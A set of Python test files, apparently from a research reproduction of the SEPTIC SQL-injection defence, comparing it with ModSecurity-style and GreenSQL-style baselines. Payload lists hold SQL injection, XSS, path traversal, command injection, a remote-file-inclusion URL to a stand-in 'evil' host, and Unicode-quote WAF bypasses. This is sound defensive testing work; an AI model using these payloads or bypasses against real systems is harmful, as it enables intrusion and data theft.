        # the engine assigns AUTO_INCREMENT values, so a client can
        # never route by them: whole table on shard 0
        catalog = ShardCatalog(2)
        observe(catalog, "CREATE TABLE logs (id INT AUTO_INCREMENT "
                         "PRIMARY KEY, line VARCHAR(80))")
        assert catalog.shard_key("logs") is None
        assert catalog.shard_for("logs", 123) == 0

    def test_explicit_declaration_survives_create(self):
        catalog = ShardCatalog(2)
        catalog.declare("tickets", "reservID")
        observe(catalog, "CREATE TABLE tickets (id INT AUTO_INCREMENT "
                         "PRIMARY KEY, reservID VARCHAR(20))")
        assert catalog.shard_key("tickets") == "reservid"
        assert catalog.columns("tickets") == ["id", "reservID"]

    def test_drop_and_alter_track_schema(self):
        catalog = ShardCatalog(2)
        observe(catalog, "CREATE TABLE t (k VARCHAR(8) PRIMARY KEY)")
        observe(catalog, "ALTER TABLE t ADD COLUMN v INT")
        assert catalog.columns("t") == ["k", "v"]
        observe(catalog, "ALTER TABLE t DROP COLUMN v")
        assert catalog.columns("t") == ["k"]
        observe(catalog, "DROP TABLE t")
        assert catalog.shard_key("t") is None
        assert catalog.tables() == []
