"""Tests for the ModSecurity-like WAF and its CRS-style rule set."""

import pytest

from repro.waf.crs_rules import DEFAULT_RULES, rules_for_paranoia
from repro.waf.modsecurity import ModSecurity
from repro.web.http import Request


def verdict_for(value, paranoia=1, param="q"):
    waf = ModSecurity(paranoia_level=paranoia)
    return waf.evaluate(Request.get("/x", {param: value}))


class TestRuleSet(object):
    def test_rule_ids_unique(self):
        ids = [rule.rule_id for rule in DEFAULT_RULES]
        assert len(ids) == len(set(ids))

    def test_paranoia_filtering(self):
        pl1 = rules_for_paranoia(1)
        pl2 = rules_for_paranoia(2)
        assert len(pl2) > len(pl1)
        assert all(rule.paranoia == 1 for rule in pl1)


class TestClassicAttacksBlocked(object):
    @pytest.mark.parametrize("payload", [
        "' OR '1'='1",
        "x' OR 1=1-- ",
        "0 OR 1=1",
        "1 UNION SELECT username, password FROM users",
        "'; DROP TABLE users-- ",
        "0 OR SLEEP(2)",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "../../../etc/passwd",
        "http://evil.example/shell.php",
        "; cat /etc/passwd",
        "<?php system('id'); ?>",
        "SELECT * FROM information_schema.tables",
    ])
    def test_blocked_at_pl1(self, payload):
        assert verdict_for(payload).blocked


class TestSemanticMismatchBlindSpots(object):
    """The false negatives that motivate SEPTIC (faithful CRS behaviour)."""

    def test_unicode_quote_tautology_passes(self):
        assert not verdict_for("xʼ OR ʼ1ʼ=ʼ1").blocked

    def test_sleep_with_inline_comment_passes(self):
        assert not verdict_for("0 OR SLEEP/**/(2)").blocked

    def test_numeric_no_equals_passes_pl1(self):
        assert not verdict_for("0 OR pin").blocked

    def test_numeric_no_equals_caught_at_pl2(self):
        assert verdict_for("0 OR pin", paranoia=2).blocked

    def test_ontoggle_xss_passes(self):
        assert not verdict_for(
            "<details open ontoggle=alert(1)>x</details>"
        ).blocked

    def test_serialized_php_object_passes(self):
        assert not verdict_for(
            'O:8:"Evil_Obj":1:{s:3:"cmd";s:6:"whoami";}'
        ).blocked


class TestBenignTraffic(object):
    @pytest.mark.parametrize("value", [
        "alice",
        "kitchen fridge",
        "john@example.com",
        "2016-07-05",
        "a perfectly normal sentence",
        "555-0101",
        "O'Neil",          # a lone quote scores below the threshold
    ])
    def test_not_blocked(self, value):
        assert not verdict_for(value).blocked


class TestEngineMechanics(object):
    def test_anomaly_score_accumulates_across_params(self):
        waf = ModSecurity(inbound_threshold=6)
        request = Request.get("/x", {
            "a": "x' -- comment",      # 942110, score 3
            "b": "y' -- comment",      # same rule, different param: +3
        })
        verdict = waf.evaluate(request)
        assert verdict.score >= 6
        assert verdict.blocked

    def test_same_rule_same_param_counted_once(self):
        waf = ModSecurity(inbound_threshold=100)
        verdict = waf.evaluate(
            Request.get("/x", {"a": "x' -- one' -- two"})
        )
        hits = [r for r, p in verdict.matched if r.rule_id == "942110"]
        assert len(hits) == 1

    def test_url_encoded_payload_decoded_once(self):
        assert verdict_for("%27%20OR%20%271%27%3D%271").blocked

    def test_audit_log_records_blocks(self):
        waf = ModSecurity()
        waf.evaluate(Request.get("/x", {"q": "' OR '1'='1"}))
        waf.evaluate(Request.get("/x", {"q": "hello"}))
        assert len(waf.audit_log) == 1
        waf.clear_log()
        assert waf.audit_log == []

    def test_threshold_configurable(self):
        strict = ModSecurity(inbound_threshold=3)
        assert strict.evaluate(
            Request.get("/x", {"q": "x' -- y"})
        ).blocked

    def test_turn_on_off(self):
        waf = ModSecurity()
        waf.turn_off()
        assert not waf.enabled
        waf.turn_on()
        assert waf.enabled

    def test_verdict_repr(self):
        verdict = verdict_for("' OR '1'='1")
        assert "BLOCK" in repr(verdict)
        assert verdict.rule_ids
