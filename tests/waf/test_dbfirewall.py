"""Tests for the GreenSQL-like database firewall baseline."""

from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.waf.dbfirewall import DatabaseFirewall, fingerprint
from tests.conftest import TICKETS_SCHEMA


def make_proxy():
    database = Database()
    database.seed(TICKETS_SCHEMA)
    return DatabaseFirewall(Connection(database))


class TestFingerprint(object):
    def test_literals_normalized(self):
        a = fingerprint("SELECT * FROM t WHERE a = 'x' AND b = 1")
        b = fingerprint("SELECT * FROM t WHERE a = 'other' AND b = 999")
        assert a == b

    def test_structure_distinguishes(self):
        a = fingerprint("SELECT * FROM t WHERE a = 'x'")
        b = fingerprint("SELECT * FROM t WHERE a = 'x' OR 1=1")
        assert a != b

    def test_comments_stripped(self):
        assert fingerprint("SELECT 1 /* hi */") == \
            fingerprint("SELECT 1 -- bye")

    def test_case_and_whitespace_normalized(self):
        assert fingerprint("SELECT  *\nFROM T") == \
            fingerprint("select * from t")

    def test_escaped_quote_stays_inside_literal(self):
        a = fingerprint(r"SELECT * FROM t WHERE a = 'x\'y'")
        b = fingerprint("SELECT * FROM t WHERE a = 'plain'")
        assert a == b

    def test_unicode_confusable_invisible(self):
        # THE blind spot: the proxy sees U+02BC as literal content
        benign = fingerprint("SELECT * FROM t WHERE a = 'x'")
        attack = fingerprint("SELECT * FROM t WHERE a = 'xʼ OR 1=1-- '")
        assert benign == attack


class TestProxyModes(object):
    def test_learning_mode_learns_and_passes(self):
        proxy = make_proxy()
        outcome = proxy.query("SELECT * FROM tickets WHERE id = 1")
        assert outcome.ok
        assert len(proxy) == 1

    def test_enforcing_blocks_unknown(self):
        proxy = make_proxy()
        proxy.query("SELECT * FROM tickets WHERE id = 1")
        proxy.enforce()
        outcome = proxy.query("SELECT * FROM tickets WHERE id = 1 OR 1=1")
        assert not outcome.ok
        assert "firewall" in str(outcome.error)
        assert proxy.blocked_queries

    def test_enforcing_passes_known_shape_new_literals(self):
        proxy = make_proxy()
        proxy.query("SELECT * FROM tickets WHERE reservID = 'a'")
        proxy.enforce()
        assert proxy.query(
            "SELECT * FROM tickets WHERE reservID = 'zzz'"
        ).ok

    def test_unicode_attack_sails_through(self):
        """The outside-the-DBMS placement fails exactly where the paper
        says it does: the proxy's fingerprint matches, the DBMS decodes
        the quote, the injection runs."""
        proxy = make_proxy()
        proxy.query("SELECT * FROM tickets WHERE reservID = 'ID34FG'")
        proxy.enforce()
        outcome = proxy.query(
            "SELECT * FROM tickets WHERE reservID = 'xʼ OR ʼ1ʼ=ʼ1'"
        )
        assert outcome.ok                     # proxy saw nothing wrong
        assert len(outcome.rows) == 3         # tautology dumped the table

    def test_learn_explicit(self):
        proxy = make_proxy()
        proxy.learn("SELECT COUNT(*) FROM tickets")
        proxy.enforce()
        assert proxy.query("SELECT COUNT(*) FROM tickets").ok

    def test_counters(self):
        proxy = make_proxy()
        proxy.query("SELECT 1")
        proxy.enforce()
        proxy.query("SELECT 2")     # same fingerprint (number normalized)
        proxy.query("SELECT 1, 2")  # new shape -> blocked
        assert proxy.queries_seen == 3
        assert len(proxy.blocked_queries) == 1
