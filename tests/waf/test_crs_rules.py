"""Rule-by-rule tests of the CRS-style rule set: each rule must catch
its canonical payload and stay quiet on a near-miss."""

import pytest

from repro.waf.crs_rules import DEFAULT_RULES

#: rule id -> (payload it must match, near-miss it must not match)
RULE_MATRIX = {
    "942100": ("' or '1", "just a quote '"),
    "942110": ("x' -- cut", "no quotes -- here"),
    "942120": ("' = '", "a = b"),
    "942130": ("' OR name = pass", "OR without a quote"),
    "942140": ("information_schema.tables", "information desk"),
    "942190": ("UNION ALL SELECT 1", "a union of states"),
    "942200": ("; DROP TABLE users", "semicolon; plain words"),
    "942210": ("' ; x", "quote ' alone"),
    "942220": ("SLEEP(5)", "asleep at the wheel"),
    "942230": ("IF((SELECT 1), 1, 1)", "if only"),
    "942240": ("CONCAT(a,b)", "con cat"),
    "942250": ("EXEC master..xp_cmdshell", "execute the plan"),
    "942260": ("/*!50000x*/", "slash star nothing"),
    "942270": ("or 1=1", "or one equals one"),
    "942280": ("%27 OR", "percent 27%"),
    "942300": ("0 OR pin", "zero or nothing="),
    "942310": ("ORDER BY 5", "order by name"),
    "941100": ("<script>x</script>", "script of a movie"),
    "941110": ("onerror=alert(1)", "on error we retry"),
    "941120": ("javascript:alert(1)", "java script language"),
    "941130": ("<iframe src=x>", "the frame was nice"),
    "941140": ("&lt;script", "a & b"),
    "930100": ("../../x", ".. well"),
    "930120": ("/etc/passwd", "etc passwd words"),
    "931100": ("http://evil/x.php", "http://example.com/page"),
    "932100": ("; cat /etc/passwd", "a cat on the mat"),
    "933100": ("<?php echo 1;", "php is a language"),
}


@pytest.mark.parametrize("rule", DEFAULT_RULES,
                         ids=[r.rule_id for r in DEFAULT_RULES])
def test_rule_catches_its_payload(rule):
    payload, _ = RULE_MATRIX[rule.rule_id]
    assert rule.matches(payload), (rule.rule_id, payload)


@pytest.mark.parametrize("rule", DEFAULT_RULES,
                         ids=[r.rule_id for r in DEFAULT_RULES])
def test_rule_quiet_on_near_miss(rule):
    _, near_miss = RULE_MATRIX[rule.rule_id]
    assert not rule.matches(near_miss), (rule.rule_id, near_miss)


def test_matrix_covers_every_rule():
    assert {r.rule_id for r in DEFAULT_RULES} == set(RULE_MATRIX)


def test_scores_follow_crs_bands():
    for rule in DEFAULT_RULES:
        assert rule.score in (2, 3, 4, 5), rule.rule_id
        assert rule.paranoia in (1, 2, 3, 4), rule.rule_id
