"""Tests for the Percona-style query digest."""

from repro.apps import AddressBook
from repro.core.septic import Mode, Septic
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.waf.digest import QueryDigest


class TestDigestStandalone(object):
    def test_groups_by_fingerprint(self):
        database = Database()
        database.seed("CREATE TABLE t (a INT, b VARCHAR(10))")
        digest = QueryDigest(database)
        conn = Connection(database)
        conn.query("SELECT * FROM t WHERE a = 1")
        conn.query("SELECT * FROM t WHERE a = 2")
        conn.query("SELECT * FROM t WHERE a = 3")
        conn.query("SELECT b FROM t")
        assert len(digest) == 2
        top = digest.entries()[0]
        assert top.count == 3
        assert "where a = ?" in top.fingerprint

    def test_keeps_recent_samples(self):
        database = Database()
        database.seed("CREATE TABLE t (a INT)")
        digest = QueryDigest(database)
        conn = Connection(database)
        for value in range(5):
            conn.query("SELECT * FROM t WHERE a = %d" % value)
        entry = digest.entries()[0]
        assert len(entry.samples) == 3
        assert "a = 4" in entry.samples[-1]

    def test_report_format(self):
        database = Database()
        database.seed("CREATE TABLE t (a INT)")
        digest = QueryDigest(database)
        Connection(database).query("SELECT * FROM t")
        text = digest.report()
        assert "rank" in text and "select * from t" in text


class TestDigestComposesWithSeptic(object):
    def test_septic_still_blocks_through_digest(self):
        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        database.seed("CREATE TABLE t (a INT, b VARCHAR(20))")
        conn = Connection(database)
        conn.query("/* septic:s:1 */ SELECT * FROM t WHERE a = 1")
        septic.mode = Mode.PREVENTION
        digest = QueryDigest(database)       # interpose AFTER training
        attack = conn.query(
            "/* septic:s:1 */ SELECT * FROM t WHERE a = 1 OR 1=1"
        )
        assert not attack.ok                 # SEPTIC verdict preserved
        assert len(digest) == 1              # and the digest observed it

    def test_digest_observes_whole_workload(self):
        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        app = AddressBook(database)
        digest = QueryDigest(database)
        for request in app.workload_requests():
            app.handle(request)
        assert len(digest) == 6              # one class per call site
        assert sum(e.count for e in digest.entries()) == 9
