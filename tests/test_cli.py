"""Tests for the command-line interface."""

import io
import os

import pytest

from repro.cli import build_parser, main


def run_cli(argv):
    out = io.StringIO()
    code = main(argv, out=out)
    return code, out.getvalue()


class TestParser(object):
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_unknown_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["frobnicate"])

    def test_attack_protection_choices(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["attack", "--protection", "magic"])


class TestCommands(object):
    def test_demo(self):
        code, text = run_cli(["demo"])
        assert code == 0
        assert "second_order_unicode" in text
        assert "septic-block" in text
        assert "0 false positives" in text

    def test_attack_septic_blocks_everything(self):
        code, text = run_cli(["attack", "--protection", "septic"])
        assert code == 0
        assert "0 succeeded" in text

    def test_attack_none_reports_successes(self):
        code, text = run_cli(["attack", "--protection", "none"])
        assert code == 0
        assert "SUCCESS" in text

    def test_attack_modsec_nonzero_exit_on_misses(self):
        code, text = run_cli(["attack", "--protection", "modsec"])
        assert code == 1           # false negatives -> failure exit code
        assert "waf-blocked" in text

    def test_train_persists_store(self, tmp_path):
        store = str(tmp_path / "models.json")
        code, text = run_cli(["train", "--store", store, "--passes", "1"])
        assert code == 0
        assert os.path.exists(store)
        assert "models" in text

    def test_train_with_data_dir_is_durable(self, tmp_path):
        data_dir = str(tmp_path / "dd")
        code, text = run_cli(["train", "--data-dir", data_dir,
                              "--passes", "1"])
        assert code == 0
        assert "durable LSN" in text
        assert os.path.exists(os.path.join(data_dir, "wal.log"))
        assert os.path.exists(os.path.join(data_dir, "qm_store.json"))

    def test_recover_round_trips_a_trained_data_dir(self, tmp_path):
        data_dir = str(tmp_path / "dd")
        code, text = run_cli(["train", "--data-dir", data_dir,
                              "--passes", "1"])
        assert code == 0
        trained_lsn = int(text.split("durable LSN ")[1].split(")")[0])
        code, text = run_cli(["recover", "--data-dir", data_dir])
        assert code == 0
        assert "statements replayed:" in text
        assert "rows" in text  # the data plane came back
        # the co-persisted models carry the data plane's watermark
        assert "wal_lsn %d" % trained_lsn in text
        models = int(text.split("QM models loaded:")[1].split("(")[0])
        assert models > 0

    def test_recover_requires_data_dir(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["recover"])

    def test_status(self):
        code, text = run_cli(["status"])
        assert code == 0
        assert "mode:" in text and "PREVENTION" in text
        assert "stats.attacks_detected" in text

    def test_scan_smoke(self):
        code, text = run_cli(["scan", "--protection", "septic"])
        assert code == 0
        assert "probe requests" in text
