"""Tests for the command-line interface."""

import io
import os

import pytest

from repro.cli import build_parser, main


def run_cli(argv):
    out = io.StringIO()
    code = main(argv, out=out)
    return code, out.getvalue()


class TestParser(object):
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_unknown_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["frobnicate"])

    def test_attack_protection_choices(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["attack", "--protection", "magic"])


class TestCommands(object):
    def test_demo(self):
        code, text = run_cli(["demo"])
        assert code == 0
        assert "second_order_unicode" in text
        assert "septic-block" in text
        assert "0 false positives" in text

    def test_attack_septic_blocks_everything(self):
        code, text = run_cli(["attack", "--protection", "septic"])
        assert code == 0
        assert "0 succeeded" in text

    def test_attack_none_reports_successes(self):
        code, text = run_cli(["attack", "--protection", "none"])
        assert code == 0
        assert "SUCCESS" in text

    def test_attack_modsec_nonzero_exit_on_misses(self):
        code, text = run_cli(["attack", "--protection", "modsec"])
        assert code == 1           # false negatives -> failure exit code
        assert "waf-blocked" in text

    def test_train_persists_store(self, tmp_path):
        store = str(tmp_path / "models.json")
        code, text = run_cli(["train", "--store", store, "--passes", "1"])
        assert code == 0
        assert os.path.exists(store)
        assert "models" in text

    def test_train_with_data_dir_is_durable(self, tmp_path):
        data_dir = str(tmp_path / "dd")
        code, text = run_cli(["train", "--data-dir", data_dir,
                              "--passes", "1"])
        assert code == 0
        assert "durable LSN" in text
        assert os.path.exists(os.path.join(data_dir, "wal.log"))
        assert os.path.exists(os.path.join(data_dir, "qm_store.json"))

    def test_recover_round_trips_a_trained_data_dir(self, tmp_path):
        data_dir = str(tmp_path / "dd")
        code, text = run_cli(["train", "--data-dir", data_dir,
                              "--passes", "1"])
        assert code == 0
        trained_lsn = int(text.split("durable LSN ")[1].split(")")[0])
        code, text = run_cli(["recover", "--data-dir", data_dir])
        assert code == 0
        assert "statements replayed:" in text
        assert "rows" in text  # the data plane came back
        # the co-persisted models carry the data plane's watermark
        assert "wal_lsn %d" % trained_lsn in text
        models = int(text.split("QM models loaded:")[1].split("(")[0])
        assert models > 0

    def test_recover_requires_data_dir(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["recover"])

    def test_status(self):
        code, text = run_cli(["status"])
        assert code == 0
        assert "mode:" in text and "PREVENTION" in text
        assert "stats.attacks_detected" in text

    def test_scan_smoke(self):
        code, text = run_cli(["scan", "--protection", "septic"])
        assert code == 0
        assert "probe requests" in text


class TestVerifyAndReplicate(object):
    def _trained_dir(self, tmp_path):
        data_dir = str(tmp_path / "dd")
        code, _text = run_cli(["train", "--data-dir", data_dir,
                               "--passes", "1"])
        assert code == 0
        return data_dir

    def test_recover_verify_reports_the_watermark(self, tmp_path):
        data_dir = self._trained_dir(tmp_path)
        code, text = run_cli(["recover", "--data-dir", data_dir,
                              "--verify"])
        assert code == 0
        assert "read-only" in text
        assert "commit-LSN watermark:" in text
        assert "log records:" in text
        assert "committed" in text
        watermark = int(text.split("commit-LSN watermark:")[1]
                        .splitlines()[0])
        assert watermark > 0

    def test_recover_verify_mutates_nothing(self, tmp_path):
        data_dir = self._trained_dir(tmp_path)
        log = os.path.join(data_dir, "wal.log")
        # leave a torn tail: a real recovery would truncate it away
        with open(log, "ab") as handle:
            handle.write(b"\x07torn")
        before = {name: open(os.path.join(data_dir, name), "rb").read()
                  for name in sorted(os.listdir(data_dir))}
        code, text = run_cli(["recover", "--data-dir", data_dir,
                              "--verify"])
        assert code == 0
        assert "torn tail bytes:      5" in text
        after = {name: open(os.path.join(data_dir, name), "rb").read()
                 for name in sorted(os.listdir(data_dir))}
        assert after == before  # byte-for-byte untouched

    def test_recover_verify_agrees_with_real_recovery(self, tmp_path):
        data_dir = self._trained_dir(tmp_path)
        code, verify_text = run_cli(["recover", "--data-dir", data_dir,
                                     "--verify"])
        assert code == 0
        code, recover_text = run_cli(["recover", "--data-dir", data_dir])
        assert code == 0
        dry = int(verify_text.split("statements replayed:")[1]
                  .splitlines()[0])
        wet = int(recover_text.split("statements replayed:")[1]
                  .splitlines()[0])
        assert dry == wet

    def test_replicate_status(self):
        code, text = run_cli(["replicate", "--status"])
        assert code == 0
        assert "frontier LSN:" in text
        assert "node0" in text and "primary" in text
        assert "node2" in text and "replica" in text
        # everyone caught up: zero lag everywhere
        rows = [line for line in text.splitlines()
                if line.startswith("node") and line[4:5].isdigit()]
        assert len(rows) == 3
        for line in rows:
            assert line.split()[4] == "0"  # lag column

    def test_replicate_failover(self):
        code, text = run_cli(["replicate", "--failover"])
        assert code == 0
        assert "killed node0" in text
        assert "promoted at epoch 2" in text
        assert "1 promotions" in text
        assert "detached" in text

    def test_replicate_keeps_workdir_when_asked(self, tmp_path):
        workdir = str(tmp_path / "keep")
        code, _text = run_cli(["replicate", "--workdir", workdir])
        assert code == 0
        assert os.path.exists(os.path.join(workdir, "node0", "wal.log"))
        assert os.path.exists(os.path.join(workdir, "node1", "wal.log"))


class TestPagesAudit(object):
    def _paged_dir(self, tmp_path):
        from repro.sqldb.engine import Database

        data_dir = str(tmp_path / "paged")
        database = Database.recover(data_dir, seed=1, storage="paged",
                                    page_size=512, pool_pages=8)
        database.run("CREATE TABLE t (id INT PRIMARY KEY, v VARCHAR(20))")
        for i in range(30):
            database.run("INSERT INTO t (id, v) VALUES (%d, 'row%d')"
                         % (i, i))
        database.checkpoint()
        database.close()
        return data_dir

    def test_verify_pages_reports_checksums_and_batch(self, tmp_path):
        data_dir = self._paged_dir(tmp_path)
        code, text = run_cli(["recover", "--data-dir", data_dir,
                              "--verify", "--pages"])
        assert code == 0
        assert "pages audited:" in text
        assert "0 FAILED" in text
        assert "page LSN range:" in text
        assert "doublewrite:" in text and "batch" in text

    def test_verify_pages_flags_a_flipped_bit_read_only(self, tmp_path):
        from repro.sqldb import pager as pager_mod

        data_dir = self._paged_dir(tmp_path)
        pager_mod.flip_page_bit(data_dir, 1, 999, page_size=512)
        before = {name: open(os.path.join(data_dir, name), "rb").read()
                  for name in sorted(os.listdir(data_dir))}
        code, text = run_cli(["recover", "--data-dir", data_dir,
                              "--verify", "--pages"])
        assert code == 0
        assert "1 FAILED [1]" in text
        after = {name: open(os.path.join(data_dir, name), "rb").read()
                 for name in sorted(os.listdir(data_dir))}
        assert after == before  # the audit is strictly read-only

    def test_verify_pages_on_memory_dir_says_so(self, tmp_path):
        data_dir = str(tmp_path / "dd")
        code, _text = run_cli(["train", "--data-dir", data_dir,
                               "--passes", "1"])
        assert code == 0
        code, text = run_cli(["recover", "--data-dir", data_dir,
                              "--verify", "--pages"])
        assert code == 0
        assert "none (in-memory storage)" in text
