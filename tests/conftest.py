"""Shared fixtures for the test suite."""

import pytest

from repro import faults

from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

TICKETS_SCHEMA = """
CREATE TABLE tickets (
    id INT PRIMARY KEY AUTO_INCREMENT,
    reservID VARCHAR(20),
    creditCard INT
);
INSERT INTO tickets (reservID, creditCard) VALUES
    ('ID34FG', 1234), ('ZZ11AA', 9999), ('QQ77MM', 4321);
"""

#: the paper's ticket query with an external identifier attached the way
#: the Zend shim attaches it (prefix comment)
TICKET_QUERY = (
    "/* septic:tickets.php:7 */ SELECT * FROM tickets "
    "WHERE reservID = '%s' AND creditCard = %s"
)


@pytest.fixture(autouse=True)
def _disarm_faults():
    """No test may leak an armed fault plan into the next one."""
    yield
    faults.disarm()


@pytest.fixture
def db():
    """A plain database (no SEPTIC) with the tickets table."""
    database = Database()
    database.seed(TICKETS_SCHEMA)
    return database


@pytest.fixture
def conn(db):
    return Connection(db)


@pytest.fixture
def septic_db():
    """(septic, database, connection) with the ticket query trained and
    SEPTIC switched to prevention mode."""
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=True))
    database = Database(septic=septic)
    database.seed(TICKETS_SCHEMA)
    connection = Connection(database)
    connection.query(TICKET_QUERY % ("ID34FG", "1234"))
    septic.mode = Mode.PREVENTION
    return septic, database, connection


@pytest.fixture(scope="session")
def waspmon_scenarios():
    """The four protection scenarios, built once per session (attack tests
    must not mutate shared state destructively — each test gets fresh
    scenarios where needed via build_scenario instead)."""
    from repro.attacks.scenario import build_scenario

    return {
        name: build_scenario(name)
        for name in ("none", "modsec", "septic", "septic+modsec")
    }
