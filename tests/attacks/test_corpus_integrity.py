"""Meta-tests over the attack corpus itself: coverage and consistency."""

from repro.attacks.corpus import benign_cases, waspmon_attacks
from repro.attacks.scenario import PROTECTIONS, build_scenario


class TestCorpusIntegrity(object):
    def test_names_unique(self):
        names = [case.name for case in waspmon_attacks()]
        assert len(names) == len(set(names))

    def test_descriptions_non_trivial(self):
        for case in waspmon_attacks():
            assert len(case.description) > 30, case.name

    def test_every_mismatch_channel_covered(self):
        channels = {case.channel for case in waspmon_attacks()}
        for needed in ("second-order", "numeric-context", "unicode",
                       "gbk", "identifier-context", "stored", "classic"):
            assert any(needed in channel for channel in channels), needed

    def test_every_paper_stored_class_covered(self):
        categories = {case.category for case in waspmon_attacks()}
        assert {"STORED_XSS", "STORED_RFI", "STORED_LFI", "STORED_OSCI",
                "STORED_RCE"} <= categories

    def test_requests_target_declared_routes(self):
        scenario = build_scenario("none")
        routes = set(scenario.app.routes())
        for case in waspmon_attacks():
            for item in case.requests:
                request = item(scenario.app) if callable(item) else item
                assert (request.method, request.path) in routes, case.name

    def test_expected_detections_annotated(self):
        annotated = [case for case in waspmon_attacks()
                     if case.expected_detection is not None]
        assert len(annotated) >= 17

    def test_benign_cases_cover_every_benign_request(self):
        scenario = build_scenario("none")
        cases = benign_cases(scenario.app)
        assert len(cases) == len(scenario.app.benign_requests())


class TestScenarioBuilder(object):
    def test_all_protections_buildable(self):
        for protection in PROTECTIONS:
            scenario = build_scenario(protection)
            assert scenario.protection == protection
            assert scenario.app.handle(
                scenario.app.benign_requests()[1]
            ).status == 200

    def test_unknown_protection_rejected(self):
        import pytest

        with pytest.raises(ValueError):
            build_scenario("tinfoil")

    def test_database_contents_comparable_across_scenarios(self):
        """All scenarios warm the app identically, so oracles measure the
        protection, not divergent data."""
        counts = {}
        for protection in ("none", "modsec", "septic"):
            scenario = build_scenario(protection)
            counts[protection] = {
                name: len(table)
                for name, table in scenario.database.tables.items()
            }
        assert counts["none"] == counts["modsec"] == counts["septic"]

    def test_septic_mode_configurable(self):
        from repro.core.septic import Mode

        scenario = build_scenario("septic", septic_mode=Mode.DETECTION)
        assert scenario.septic.mode == Mode.DETECTION


class TestDefenseInDepthComposition(object):
    """WAF + SEPTIC + query digest, all at once: every layer keeps its
    role, nothing shadows anything."""

    def test_three_layers_compose(self):
        from repro.attacks.corpus import run_case
        from repro.waf.digest import QueryDigest

        scenario = build_scenario("septic+modsec")
        digest = QueryDigest(scenario.database)
        outcomes = [run_case(scenario.server, scenario.app, case)
                    for case in waspmon_attacks()]
        assert not any(o.succeeded for o in outcomes)
        assert any(o.waf_blocked for o in outcomes)
        assert any(o.septic_blocked for o in outcomes)
        assert len(digest) > 0   # the digest saw the queries that got past
        # benign traffic still flows through all three layers
        for request in scenario.app.benign_requests():
            assert scenario.server.handle(request).status == 200
