"""Integration tests: the attack corpus against the four deployments.

These pin the demonstration's headline numbers (phase A/B/D/E): what
succeeds unprotected, what ModSecurity misses, and that SEPTIC blocks
every viable attack with zero false positives.
"""

import pytest

from repro.attacks.corpus import benign_cases, run_case, waspmon_attacks
from repro.attacks.scenario import build_scenario

#: attacks that self-defeat even with no protection (multi-statement off,
#: ASCII escaping genuinely works)
SELF_DEFEATING = {"numeric_piggyback", "login_tautology_ascii"}


def run_all(protection):
    scenario = build_scenario(protection)
    outcomes = [
        run_case(scenario.server, scenario.app, case)
        for case in waspmon_attacks()
    ]
    return scenario, {o.case.name: o for o in outcomes}


class TestPhaseA_Unprotected(object):
    """Sanitization functions alone do not stop the corpus."""

    @pytest.fixture(scope="class")
    def results(self):
        return run_all("none")

    def test_every_viable_attack_succeeds(self, results):
        _, outcomes = results
        for name, outcome in outcomes.items():
            if name in SELF_DEFEATING:
                assert not outcome.succeeded, name
            else:
                assert outcome.succeeded, name

    def test_nothing_blocked(self, results):
        _, outcomes = results
        assert not any(o.blocked for o in outcomes.values())

    def test_self_defeating_attacks_documented(self, results):
        _, outcomes = results
        assert not outcomes["numeric_piggyback"].succeeded
        assert "readings" in run_all("none")[0].database.tables


class TestPhaseB_ModSecurity(object):
    """ModSecurity blocks some attacks and misses others (§IV-B)."""

    @pytest.fixture(scope="class")
    def results(self):
        return run_all("modsec")

    def test_blocks_classic_attacks(self, results):
        _, outcomes = results
        for name in ("numeric_tautology", "numeric_union_dump",
                     "stored_xss_script", "stored_rfi",
                     "login_tautology_ascii"):
            assert outcomes[name].waf_blocked, name

    def test_has_false_negatives(self, results):
        _, outcomes = results
        missed = [
            name for name, o in outcomes.items()
            if o.succeeded and not o.waf_blocked
        ]
        # the demo's point: several attacks pass ModSecurity
        assert len(missed) >= 5
        assert "unicode_tautology" in missed
        assert "second_order_unicode" in missed

    def test_audit_log_populated(self, results):
        scenario, _ = results
        assert scenario.waf.audit_log

    def test_benign_traffic_not_blocked(self):
        scenario = build_scenario("modsec")
        for case in benign_cases(scenario.app):
            outcome = run_case(scenario.server, scenario.app, case)
            assert not outcome.waf_blocked, case.name


class TestPhaseD_Septic(object):
    """SEPTIC blocks everything viable, with no false positives."""

    @pytest.fixture(scope="class")
    def results(self):
        return run_all("septic")

    def test_no_attack_succeeds(self, results):
        _, outcomes = results
        assert not any(o.succeeded for o in outcomes.values())

    def test_every_viable_attack_septic_blocked(self, results):
        _, outcomes = results
        for name, outcome in outcomes.items():
            if name not in SELF_DEFEATING:
                assert outcome.septic_blocked, name

    def test_detection_kinds_match_expectations(self, results):
        scenario, outcomes = results
        by_kind = {}
        for event in scenario.septic.logger.attacks:
            if event.attack_type == "SQLI":
                label = "structural" if event.step == 1 else "syntactical"
            else:
                label = event.attack_type
            by_kind.setdefault(label, 0)
            by_kind[label] += 1
        assert by_kind.get("structural", 0) >= 8
        assert by_kind.get("syntactical", 0) >= 1     # the mimicry attack
        assert by_kind.get("STORED_XSS", 0) >= 2

    def test_no_false_positives(self, results):
        scenario, _ = results
        dropped_before = scenario.septic.stats.queries_dropped
        for case in benign_cases(scenario.app):
            outcome = run_case(scenario.server, scenario.app, case)
            assert outcome.succeeded and not outcome.blocked, case.name
        assert scenario.septic.stats.queries_dropped == dropped_before

    def test_stats_consistent(self, results):
        scenario, _ = results
        stats = scenario.septic.stats
        assert stats.queries_dropped == stats.attacks_detected
        assert stats.attacks_detected == \
            stats.sqli_detected + stats.stored_detected


class TestPhaseE_Comparison(object):
    """SEPTIC strictly dominates ModSecurity on this corpus."""

    def test_septic_has_fewer_false_negatives(self):
